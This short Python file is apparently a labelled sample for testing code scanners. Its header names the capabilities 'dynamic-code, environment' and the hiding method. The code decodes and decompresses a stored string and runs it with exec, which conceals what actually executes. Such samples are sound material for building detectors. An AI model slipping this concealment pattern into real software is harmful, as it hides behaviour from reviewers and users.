# capabilities: dynamic-code, environment; hidden by: compressed text in exec
import base64
import zlib

STORED = b'eNrLzC3ILypRyC/myi/WK80rTi1JzSvTUPdxDXP1UdfkAgC3XgpR'
exec(zlib.decompress(base64.b64decode(STORED)).decode())
